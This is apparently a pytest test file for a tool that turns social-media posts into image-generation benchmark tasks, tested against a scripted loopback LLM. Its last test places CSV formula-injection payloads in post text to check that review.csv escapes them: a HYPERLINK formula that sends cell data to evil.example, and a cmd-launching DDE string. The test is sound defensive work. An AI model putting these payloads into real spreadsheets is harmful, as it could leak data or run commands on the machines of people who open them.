"""`atelier suite from-posts` end to end against an OpenAI-compatible loopback LLM.

The loopback server speaks the chat-completions wire format (images as base64 data URLs are
checked); its answers are scripted from the request text, as a model reading the posts would
answer. Threads with replies, images, a near duplicate and an off-topic post go through every
step; the suite written after review validates strictly and runs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from PIL import Image

from pytest_atelier.cli import main
from pytest_atelier.posts.model import load_posts
from pytest_atelier.posts.threads import build_threads
from tests.providers.loopback import LoopbackServer

ROOT = Path(__file__).resolve().parents[2]

FOX_POSTS, DOOR_POSTS, POSTER_POSTS = (
    "p1 p2 p3",
    "p4 p5",
    "p8",
)  # a review row's sources
FOX = "A red fox curled asleep in fresh snow as a woodcut print, three pine trees behind it."
DOOR = (
    "Turn this photo of my street into a watercolour painting and keep the blue door."
)
POSTER = "Recreate this poster exactly as it is."


def _png(path: Path, color) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (48, 32), color).save(path)
    return path.name


def write_posts(folder: Path) -> Path:
    media = folder / "media"
    for name, color in (
        ("p2-1.png", "red"),
        ("p4-1.png", "blue"),
        ("p5-1.png", "green"),
        ("p8-1.png", "yellow"),
    ):
        _png(media / name, color)
    posts = [
        {
            "id": "p1",
            "text": "Best prompt I found all week, it's in the reply",
            "author": "@ana",
            "created_at": "2026-03-01T10:00:00Z",
        },
        {
            "id": "p2",
            "text": FOX,
            "reply_to": "p1",
            "author": "@ana",
            "images": ["media/p2-1.png"],
        },
        {
            "id": "p3",
            "text": "Lovely, but mine gave the fox five legs",
            "reply_to": "p2",
            "author": "@ben",
        },
        {"id": "p4", "text": DOOR, "author": "@cy", "images": ["media/p4-1.png"]},
        {
            "id": "p5",
            "text": "",
            "reply_to": "p4",
            "author": "@cy",
            "images": ["media/p5-1.png"],
        },
        {"id": "p6", "text": "Same prompt here: " + FOX.lower(), "author": "@dee"},
        {"id": "p7", "text": "Anyone watching the football tonight?", "author": "@eve"},
        {"id": "p8", "text": POSTER, "author": "@fin", "images": ["media/p8-1.png"]},
    ]
    path = folder / "posts.jsonl"
    path.write_text("".join(json.dumps(p) + "\n" for p in posts), encoding="utf-8")
    return path


def _semantic(n: int, start: int = 1) -> list[dict]:
    kinds = ["abstract_intent", "implicit_style", "audience_intent"]
    return [
        {
            "id": f"c{start + i:02d}",
            "primitive": kinds[i % 3],
            "image": f"The picture shows quality {i}.",
            "prompt": f"The prompt asks for quality {i}.",
        }
        for i in range(n)
    ]


def _draft(user: str) -> dict:
    tags = {"entities": ["environment"], "visual_style": ["traditional_media"]}
    if "Write a CO task" in user:
        constraints = {
            "attribute_binding": [f"detail {i}" for i in range(6)],
            "quantity": ["three pine trees", "one fox", "no moon", "two tracks"],
        }
        checkpoints = _semantic(3)
        for field, items in constraints.items():
            for item in items:
                checkpoints.append(
                    {
                        "id": f"c{len(checkpoints) + 1:02d}",
                        "primitive": field,
                        "image": f"It shows {item}.",
                        "prompt": f"It asks for {item}.",
                    }
                )
        checkpoints[4]["check"] = {"type": "count", "entity": "pine tree", "count": 3}
        if (
            "It breaks these rules" not in user
        ):  # the first answer forgets the style tag: the repair round fixes it
            tags = {"entities": ["environment"]}
        return {"title": "Fox in the snow", "brief": FOX, "constraints": constraints, "tags": tags, "checkpoints": checkpoints,
                "reference_prompt": "Woodcut print of a red fox asleep in snow, three pines behind."}  # fmt: skip
    if "Write an IM task" in user:
        return {"title": "Yellow poster", "brief": "Reproduce the poster.", "constraints": None, "tags": tags,
                "checkpoints": [{**c, "primitive": "implicit_style" if i < 4 else "attribute_binding"} for i, c in enumerate(_semantic(11))],
                "reference_prompt": "A plain yellow poster."}  # fmt: skip
    return {"category": "OE", "title": "Street in watercolour", "brief": DOOR, "constraints": None, "tags": tags,
            "checkpoints": _semantic(7), "reference_prompt": "Watercolour of the street, the blue door kept."}  # fmt: skip


def scripted_llm(user: str, n: int) -> str:
    if user.startswith("Post text:"):
        off_topic = "football" in user
        return json.dumps(
            {
                "relevance": 1 if off_topic else 5,
                "reason": "off topic" if off_topic else "an image prompt",
            }
        )
    if user.startswith("Thread:"):
        root = re.search(r"\[post (\w+)\]", user).group(1)
        sample = {"p1": {"brief": FOX, "post_ids": ["p1", "p2", "p3"], "input_images": [], "target_images": [], "feedback": ["the fox got five legs"]},
                  "p4": {"brief": DOOR, "post_ids": ["p4", "p5"], "input_images": ["p4#1"], "target_images": [], "feedback": []},
                  "p6": {"brief": FOX, "post_ids": ["p6"], "input_images": [], "target_images": [], "feedback": []},
                  "p8": {"brief": POSTER, "post_ids": ["p8"], "input_images": [], "target_images": ["p8#1"], "feedback": []}}[root]  # fmt: skip
        return json.dumps({"samples": [{**sample, "quality": "benchmark"}]})
    if user.startswith("Request:"):
        category = (
            "image_input"
            if "Input pictures provided: 1" in user
            else "IM"
            if "Target pictures shown: 1" in user
            else "CO"
        )
        return json.dumps({"category": category, "reason": "by its requirements"})
    if user.startswith("Write "):
        return json.dumps(_draft(user))
    raise AssertionError(f"unexpected request: {user[:80]}")


@pytest.fixture
def llm():
    server = LoopbackServer()
    server.answer = scripted_llm
    server.start()
    yield server
    server.stop()


def _args(posts: Path, out: Path, work: Path, cache: Path, llm, *extra) -> list[str]:
    return ["suite", "from-posts", str(posts), "-o", str(out), "--work", str(work), "--cache-dir", str(cache),
            "--llm", f"openai:scripted?base_url={llm.url}/v1&retries=0", "--embeddings", "ngram", "--image-license", "CC-BY-4.0", *extra]  # fmt: skip


def _decide(review: Path, decisions: dict[str, str]) -> dict[str, dict]:
    rows = list(csv.DictReader(io.StringIO(review.read_text(encoding="utf-8"))))
    for row in rows:
        row["decision"] = decisions.get(row["sources"], row["decision"])
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    review.write_text(out.getvalue(), encoding="utf-8")
    return {row["sources"]: row for row in rows}


def test_threads_join_a_prompt_with_its_replies_and_start_orphans_anew(tmp_path):
    threads = build_threads(load_posts(write_posts(tmp_path)))
    assert [[p.id for p in t.posts] for t in threads] == [
        ["p1", "p2", "p3"],
        ["p4", "p5"],
        ["p6"],
        ["p7"],
        ["p8"],
    ]
    assert "(reply to p2)" in threads[0].render() and "@ana" not in threads[0].render()


def test_posts_file_errors_name_the_line_and_field(tmp_path):
    path = tmp_path / "posts.jsonl"
    path.write_text(
        '{"id": "a", "text": "x"}\n{"id": "b", "images": ["../secret.png"]}\n',
        encoding="utf-8",
    )
    code = main(
        [
            "suite",
            "from-posts",
            str(path),
            "-o",
            str(tmp_path / "s"),
            "--llm",
            "openai:x?base_url=http://127.0.0.1:9/v1",
        ]
    )
    assert code == 2
    path.write_text('{"id": "a", "txt": "x"}\n', encoding="utf-8")
    with pytest.raises(Exception, match=r"posts.jsonl:1: txt: Extra inputs"):
        load_posts(path)


def test_from_posts_drafts_reviews_writes_a_valid_suite_and_replays_from_the_cache(
    tmp_path, llm, capsys, pytester
):
    posts = write_posts(tmp_path / "export")
    out, work, cache = (
        tmp_path / "suites" / "community",
        tmp_path / "work",
        tmp_path / "cache",
    )
    assert main(_args(posts, out, work, cache, llm)) == 0
    for name in (
        "01-relevance.jsonl",
        "02-samples.jsonl",
        "03-categories.jsonl",
        "04-duplicates.jsonl",
        "05-drafts.jsonl",
        "review.csv",
    ):
        assert (work / name).is_file(), name
    relevance = {
        r["post"]: r
        for r in map(json.loads, (work / "01-relevance.jsonl").read_text().splitlines())
    }
    assert relevance["p7"]["relevance"] == 1 and relevance["p5"]["relevance"] is None
    duplicates = [
        json.loads(line)
        for line in (work / "04-duplicates.jsonl").read_text().splitlines()
    ]
    assert (
        sum(1 for d in duplicates if d["duplicate_of"]) == 1
    )  # p6 repeats p2's prompt
    assert not list(
        out.glob("tasks/**/*.yaml")
    )  # nothing is written before a person reviews
    rows = _decide(
        work / "review.csv",
        {FOX_POSTS: "accept", DOOR_POSTS: "accept", POSTER_POSTS: "reject"},
    )
    assert (
        rows[FOX_POSTS]["brief"] == FOX and rows[FOX_POSTS]["problems"] == ""
    )  # the repair round fixed the draft
    calls = len(llm.requests)
    assert main(_args(posts, out, work, cache, llm)) == 0
    assert len(llm.requests) == calls  # the second invocation makes no LLM call
    tasks = {t.stem: yaml.safe_load(t.read_text()) for t in out.glob("tasks/**/*.yaml")}
    assert sorted(t["brief"] for t in tasks.values()) == sorted([FOX, DOOR])
    fox = next(t for t in tasks.values() if t["brief"] == FOX)
    assert fox["sources"] == ["post:p1", "post:p2", "post:p3"]
    door = next(t for t in tasks.values() if t["brief"] == DOOR)
    assert (
        door["input_images"]
        and (out / "tasks" / "oe" / door["input_images"][0]).resolve().is_file()
    )
    assert not any(
        "@" in p.read_text(encoding="utf-8", errors="ignore")
        for p in out.rglob("*")
        if p.is_file() and p.suffix != ".png"
    )
    capsys.readouterr()
    assert main(["suite", "validate", "--strict", str(out)]) == 0, (
        capsys.readouterr().err
    )
    assert (
        _decide(work / "review.csv", {})[POSTER_POSTS]["decision"] == "reject"
    )  # remembered
    result = pytester.runpytest(
        str(out),
        "--prompter=direct",
        "--backend=reference",
        "--judge=offline",
        "--atelier-images=1",
        "-p",
        "no:randomly",
    )
    outcomes = result.parseoutcomes()
    assert outcomes.get("passed", 0) + outcomes.get(
        "failed", 0
    ) > 0 and not outcomes.get("error")


def test_a_rejected_task_leaves_the_suite_and_an_unknown_folder_is_never_overwritten(
    tmp_path, llm
):
    posts = write_posts(tmp_path / "export")
    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
    main(_args(posts, out, work, cache, llm))
    _decide(work / "review.csv", {FOX_POSTS: "accept"})
    main(_args(posts, out, work, cache, llm))
    assert len(list(out.glob("tasks/**/*.yaml"))) == 1
    _decide(work / "review.csv", {FOX_POSTS: "reject"})
    main(_args(posts, out, work, cache, llm))
    assert not list(out.glob("tasks/**/*.yaml"))
    hand_written = tmp_path / "mine"
    (hand_written / "tasks").mkdir(parents=True)
    (hand_written / "suite.yaml").write_text("name: mine\n")
    assert main(_args(posts, hand_written, work, cache, llm)) == 2
    assert (hand_written / "suite.yaml").read_text() == "name: mine\n"


def test_a_killed_run_resumes_from_the_calls_it_had_made(tmp_path):
    posts = write_posts(tmp_path / "export")
    server = LoopbackServer(latency=0.3)
    server.answer = scripted_llm
    server.start()
    try:
        args = _args(
            posts, tmp_path / "s", tmp_path / "work", tmp_path / "cache", server
        )
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        proc = subprocess.Popen(
            [sys.executable, "-m", "pytest_atelier.cli", *args],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.time() + 60
        while (
            len(server.requests) < 4 and time.time() < deadline and proc.poll() is None
        ):
            time.sleep(0.05)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        before = len(server.requests)
        assert 4 <= before < 12  # killed mid-way
        server.latency = 0.0
        assert main(args) == 0
        resumed = len(server.requests) - before
        fresh = LoopbackServer()
        fresh.answer = scripted_llm
        fresh.start()
        try:
            main(
                _args(
                    posts,
                    tmp_path / "s2",
                    tmp_path / "work2",
                    tmp_path / "cache2",
                    fresh,
                )
            )
            total = len(fresh.requests)
        finally:
            fresh.stop()
        assert resumed <= total - (
            before - 1
        )  # every call answered before the kill came from the cache
    finally:
        server.stop()


def test_an_edited_draft_naming_an_unknown_image_is_reported_not_written(
    tmp_path, llm, capsys
):
    posts = write_posts(tmp_path / "export")
    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
    main(_args(posts, out, work, cache, llm))
    rows = _decide(work / "review.csv", {DOOR_POSTS: "accept"})
    draft = work / "drafts" / f"{rows[DOOR_POSTS]['id']}.yaml"
    draft.write_text(draft.read_text().replace("p4#1", "p9#7"))
    capsys.readouterr()
    assert main(_args(posts, out, work, cache, llm)) == 0
    assert "names images not in its thread (p9#7" in capsys.readouterr().out
    assert not list(out.glob("tasks/**/*.yaml"))


# --- issue 29: a draft is checked before it is cached, with a schema; review.csv runs no formula ------------


def _draft_requests(server) -> list[dict]:
    """The chat requests of the draft step (their user message starts with "Write ")."""
    def user_text(body: dict) -> str:
        content = body["messages"][-1]["content"]
        return content if isinstance(content, str) else content[0]["text"]

    bodies = [json.loads(r["body"]) for r in server.requests if r["path"].endswith("/chat/completions")]
    return [b for b in bodies if user_text(b).startswith("Write ")]


def test_a_draft_without_checkpoints_is_asked_again_not_cached_and_every_draft_has_a_schema(tmp_path, llm):
    posts = write_posts(tmp_path / "export")
    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
    broken = {"on": True}

    def answer(user, n):
        if user.startswith("Write ") and broken["on"]:
            return json.dumps({k: v for k, v in _draft(user).items() if k != "checkpoints"})
        return scripted_llm(user, n)

    llm.answer = answer
    main(_args(posts, out, work, cache, llm))
    asked = len(_draft_requests(llm))
    assert asked and "checkpoints" in (work / "05-drafts.jsonl").read_text()  # reported as not fitting
    broken["on"] = False
    main(_args(posts, out, work, cache, llm))
    assert len(_draft_requests(llm)) > asked, "the draft without checkpoints was taken from the cache"
    drafts = [json.loads(line) for line in (work / "05-drafts.jsonl").read_text().splitlines()]
    assert drafts and all(not d["problems"] for d in drafts)
    for body in _draft_requests(llm):
        schema = body["response_format"]["json_schema"]["schema"]
        assert "checkpoints" in schema["required"] and schema["properties"]["checkpoints"]["type"] == "array"


def test_review_csv_cells_from_posts_are_never_formulas(tmp_path, llm):
    posts = write_posts(tmp_path / "export")
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    lines = [json.loads(line) for line in posts.read_text().splitlines()]
    for post in lines:
        if post["id"] == "p8":
            post["text"] = hostile
    posts.write_text("".join(json.dumps(p) + "\n" for p in lines))

    def answer(user, n):
        if user.startswith("Thread:") and "[post p8]" in user:
            return json.dumps({"samples": [{"brief": hostile, "post_ids": ["p8"], "input_images": [], "target_images": ["p8#1"],
                                            "feedback": [], "quality": "benchmark"}]})  # fmt: skip
        if user.startswith("Write an IM task"):
            return json.dumps({**_draft(user), "brief": hostile, "title": "+cmd|' /C calc'!A0"})
        return scripted_llm(user, n)

    llm.answer = answer
    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
    main(_args(posts, out, work, cache, llm))
    rows = list(csv.reader(io.StringIO((work / "review.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    _decide(work / "review.csv", {POSTER_POSTS: "accept"})  # a decision survives the escaping
    main(_args(posts, out, work, cache, llm))
    assert len(list(out.glob("tasks/**/*.yaml"))) == 1
